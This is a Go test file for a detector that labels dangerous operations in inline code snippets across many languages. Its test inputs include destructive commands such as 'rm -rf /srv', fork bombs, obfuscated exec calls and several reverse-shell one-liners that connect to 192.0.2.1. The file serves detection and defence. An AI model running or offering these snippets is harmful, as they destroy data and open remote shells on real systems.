package inline

import "testing"

func TestPlainLanguages(t *testing.T) {
	t.Parallel()
	for lang, cases := range map[string][]scanCase{
		"node": {
			{"require", `require("child_process").execSync("rm -rf /srv")`, []string{"shell [rm -rf /srv]"}},
			{"destructured", `const {exec, spawn} = require('child_process'); exec('id'); spawn('rm', ['-r', 'x'])`, []string{"shell [id]", "exec [rm] [-r] [x]"}},
			{"another name", `const {exec: e} = require('child_process'); e('id')`, []string{"dynamic"}},
			{"import under another name", "import {execSync as s} from 'child_process'; s('id')", []string{"dynamic"}},
			{"value in a template", "require('child_process').exec(`rm -rf ${d}`)", []string{"shell [rm -rf …]"}},
			{"computed text", `require("child_process").execSync("di".split("").reverse().join(""))`, []string{"shell […]"}},
			{"sum", `require('child_process').exec('rm -rf ' + process.argv[2])`, []string{"shell [rm -rf …]"}},
			{"other directory", `require('child_process').exec('rm x', {cwd: '/opt'}); require('fs').unlinkSync('a')`, []string{"shell [rm x] in=", "delete […]"}},
			{"shell option", `require('child_process').spawn('rm -r x', {shell: true})`, []string{"shell [rm -r x]"}},
			{"call and apply", `require('child_process').execSync.call(null, 'id')`, []string{"dynamic"}},
			{"member by text", `require("child_process")["exe" + "c"]("id")`, []string{"dynamic"}},
			{"module by text", `require("child_" + "process").exec("id")`, []string{"dynamic"}},
			{"eval of a literal", `eval("require('child_process').exec('id')")`, []string{"shell [id]"}},
			{"eval", `eval(process.argv[2]); new Function(x)()`, []string{"dynamic", "dynamic"}},
			{"files", `const fs=require('fs');fs.unlinkSync('a');fs.writeFileSync('b','');fs.rmSync('c',{recursive:true});fs.readFile('d');fs.copyFileSync('e','f');fs.chmodSync('g',0o777)`,
				[]string{"delete [a]", "write [b]", "delete [c] recursive", "read [d]", "read [e]", "write [f]", "chmod [g] mode=777"}},
			{"deno", `new Deno.Command("rm", {args: ["x"]}).output()`, []string{"exec [rm] […]"}},
			{"network", `fetch('http://a.example'); axios.post('http://b.example', x)`, []string{"network [http://a.example]", "upload [http://b.example]"}},
			{"reverse shell", `sh = require("child_process").spawn("/bin/sh"); require("net").connect(1, "192.0.2.1", function () { this.pipe(sh.stdin) })`,
				[]string{"spawn [/bin/sh]", "socket", "socket_shell"}},
			{"socket files", `require("net").connect("/run/a"); require("net").createConnection({path: '/run/b'}); http.get({socketPath: "/run/c", path: "/"}); net.connect(80, "h"); require("http").get({socketPath: "/run/d"})`,
				[]string{"read [/run/a]", "read [/run/b]", "read [/run/c]", "socket", "read [/run/d]"}},
			{"paths of URLs", `http.get({host: "h.example", path: "/api"}); fetch("/api")`, []string{"network […]", "network [/api]"}},
			{"environment", "console.log(process.env); console.log(process.env.HOME)", []string{"env"}},
			{"ordinary", `const path = require('path'); const x = require(path.join(__dirname, 'y')); /a/.exec("b"); JSON.parse("{}")`, nil},
		},
		"perl": {
			{"system", `system "rm -rf /srv"; system("rm", "-r", $x); exec 'id' or die`, []string{"shell [rm -rf /srv]", "exec [rm] [-r] […]", "shell [id]"}},
			{"backticks", "my $x = `id`; print qx{ls}", []string{"shell [id]", "shell […]"}},
			{"unlink", `unlink "a", "b"; unlink glob "/srv/*"; map { unlink } <*>`, []string{"delete [a] [b]", "delete […]", "delete […]"}},
			{"open", `open(F, ">a"); open(my $f, '>>', "b"); open F, "c"; open(P, "id|"); open(my $p, "-|", "ls"); open(F, "<", $x)`,
				[]string{"write [a]", "append [b]", "read [c]", "shell [id]", "shell […]", "read […]"}},
			{"values", `my $d = "/srv"; system("ls $d"); system($c)`, []string{"shell [ls …]", "shell […]"}},
			{"functions by name", `&$f("id"); &{"sys" . "tem"}("id")`, []string{"dynamic", "dynamic"}},
			{"eval", `eval "system('id')"; eval { risky() }; eval $x`, []string{"shell [id]", "dynamic"}},
			{"signals", "kill 9, 1; kill 'KILL', 2", []string{"signal [1] mode=9", "signal [2] mode=KILL"}},
			{"fork bomb", "fork while 1", []string{"fork_bomb"}},
			{"fork", "my $p = fork; waitpid $p, 0", []string{"fork"}},
			{"reverse shell", `use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i")`, []string{"socket", "write [&S]", "shell [/bin/sh -i]", "socket_shell"}},
			{"socket files", `IO::Socket::UNIX->new(Peer => "/run/a"); IO::Socket::UNIX->new("/run/b"); socket(S, AF_UNIX, 1, 0); connect(S, sockaddr_un("/run/c"))`,
				[]string{"read [/run/a]", "read [/run/b]", "socket", "read [/run/c]"}},
			{"environment", "print %ENV", []string{"env"}},
			{"keys", `$h{system} = 1; $o->exec; $x->{unlink}; print $ENV{HOME}`, nil},
			{"ordinary", `while (<>) { my ($a, $b) = split /,/; print "$a\n" if /x/; s/a/b/g }`, nil},
		},
		"ruby": {
			{"system", "system 'rm -rf /srv'\nsystem(\"rm #{d}\")\n`id`\n%x(ls)", []string{"shell [rm -rf /srv]", "shell [rm …]", "shell [id]", "shell […]"}},
			{"files", `FileUtils.rm_rf('/srv'); File.delete("a"); File.write("b", x); open("c"); open("|id"); FileUtils.mv 'd', 'e'; FileUtils.chmod 0777, 'f'`,
				[]string{"delete [/srv] recursive", "delete [a]", "write [b]", "read [c]", "shell [id]", "rename [d] [e]", "chmod [f] mode=777"}},
			{"listed files", `Dir["/srv/*"].each { |f| File.delete(f) }; Pathname.new("a").delete`, []string{"delete […]", "dynamic"}},
			{"by name", `send("ex" + "ec", "ls"); x.class_eval { y }`, []string{"dynamic"}},
			{"sockets", `c = TCPSocket.new("192.0.2.1", 1); IO.popen(c.gets)`, []string{"network [192.0.2.1:1]", "shell […]", "socket_shell"}},
			{"server", "TCPServer.new(80)", []string{"listen [:80]"}},
			{"socket files", "UNIXSocket.new('/run/a'); UNIXServer.new(\"/run/b\"); s.connect(Socket.sockaddr_un('/run/c'))",
				[]string{"read [/run/a]", "write [/run/b]", "read [/run/c]"}},
			{"ordinary", `a = [1]; a.delete(1); h = {system: 1}; a.each { |x| puts x }; puts ENV['PATH']; obj.exec('x')`, nil},
		},
		"php": {
			{"commands", `<?php SHELL_EXEC('id'); passthru("ls $x"); echo ` + "`id`", []string{"shell [id]", "shell [ls …]", "shell [id]"}},
			{"files", `unlink('a'); file_put_contents('b', 1); fopen('c', 'w'); file_get_contents('http://a.example/x'); copy('d', 'e');`,
				[]string{"delete [a]", "write [b]", "write [c]", "network [http://a.example/x]", "read [d]", "write [e]"}},
			{"functions by name", `$f('id'); call_user_func($g, 'ls'); array_map('unlink', glob('*')); array_map(function ($x) { return $x; }, $y);`,
				[]string{"dynamic", "dynamic", "dynamic"}},
			{"reverse shell", `$s=fsockopen("192.0.2.1",1);exec("/bin/sh <&3 >&3 2>&3");`, []string{"network [192.0.2.1:1]", "shell [/bin/sh <&3 >&3 2>&3]", "socket_shell"}},
			{"ordinary", `echo 1; $x = date("Y"); print $x;`, nil},
		},
		"lua": {
			{"commands", `os.execute("rm -rf /srv") io.popen("ls") f = os.execute`, []string{"shell [rm -rf /srv]", "shell [ls]", "dynamic"}},
			{"files", `io.open("a", "w") os.remove("b") os.rename("c", "d") for l in io.lines("e") do end`, []string{"write [a]", "delete [b]", "rename [c] [d]", "read [e]"}},
			{"reverse shell", `t=require('socket').tcp();t:connect('192.0.2.1','1');os.execute('/bin/sh -i <&3')`, []string{"network [192.0.2.1:1]", "shell [/bin/sh -i <&3]", "socket_shell"}},
			{"ordinary", "print(1) table.remove(t) x = {1} print(os.time())", nil},
		},
		"r": {
			{"calls", `system("id"); unlink("a", recursive = TRUE); eval(parse(text = x))`, []string{"shell [id]", "delete [a] recursive", "dynamic", "dynamic"}},
			{"home", `unlink("~", recursive = TRUE); file.remove("~/a")`, []string{"delete [~] recursive", "delete [~/a]"}},
			{"ordinary", `x <- c(1, 2); print(mean(x)); install.packages("y")`, nil},
		},
		"go": {
			{"calls", `exec.Command("sh", "-c", "id").Run(); os.RemoveAll("/srv"); os.WriteFile(name, b, 0o600)`, []string{"exec [sh] [-c] [id]", "delete [/srv] recursive", "write […]"}},
			{"reverse shell", `fd, _ := syscall.Socket(2, 1, 0); syscall.Dup2(fd, 0); syscall.Exec("/bin/sh", []string{"/bin/sh"}, e)`, []string{"socket", "exec [/bin/sh] […]", "socket_shell"}},
		},
		"java": {
			{"calls", `Runtime.getRuntime().exec("rm -r x"); new ProcessBuilder("ls", "-l").start(); "id".execute()`, []string{"exec [rm -r x]", "exec [ls] [-l]", "dynamic"}},
			{"deletes", `new File("a").delete(); new File(b).deleteDir()`, []string{"delete […]", "delete […] recursive"}},
			{"ordinary", `List<String> l = new ArrayList<>(); l.remove("x"); System.out.println(1);`, nil},
		},
		"c": {
			{"calls", `int main(){ system("id"); unlink("a"); execl("/bin/sh", "sh", 0); while(1) fork(); }`, []string{"shell [id]", "delete [a]", "spawn [/bin/sh]", "fork_bomb"}},
		},
	} {
		t.Run(lang, func(t *testing.T) { runCases(t, lang, cases) })
	}
}

func TestAwk(t *testing.T) {
	runCases(t, "awk", []scanCase{
		{"substitution", `BEGIN { c = "Xm"; gsub("X", "r", c); system(c); d = "ls"; system(d) }`, []string{"shell [Xm]", "shell […]", "shell [ls]"}},
		{"read into a variable", `BEGIN { c = "ls"; "date" | getline c; system(c) }`, []string{"shell [ls]", "shell […]", "shell [date]"}},
		{"loop over keys", `{ c = "a"; for (c in x) system(c) }`, []string{"shell [a]", "shell […]"}},
		{"system", `BEGIN { system("rm -rf /srv") }`, []string{"shell [rm -rf /srv]"}},
		{"field", `{ system("rm " $1) }`, []string{"shell [rm …]"}},
		{"getline", `BEGIN { "id" | getline x; while (("ls " d) | getline) print; getline y < "/etc/hosts" }`, []string{"shell [id]", "shell [ls …]", "read [/etc/hosts]"}},
		{"print", `{ print $1 > "a"; print $2 >> "b"; print $3 | "sort" }`, []string{"write [a]", "append [b]", "shell [sort]"}},
		{"network", `BEGIN { s = "/inet/tcp/0/192.0.2.1/1"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }`,
			[]string{"network [192.0.2.1:1]", "shell […]", "network [192.0.2.1:1]", "socket_shell"}},
		{"comparison", `$1 > 5 { print $2 } { if ($3 > "x") print ($1 > 2) } # system("id")`, nil},
		{"strings", `{ print "system(\"id\")"; print "a" > "/dev/stderr" } /system\("x"\)/ { n++ }`, nil},
		{"format", `BEGIN { system(sprintf("%s x", "rm")); system(sprintf("%c%c", 105, 100)) }`, []string{"shell [rm x]", "shell [id]"}},
	})
}
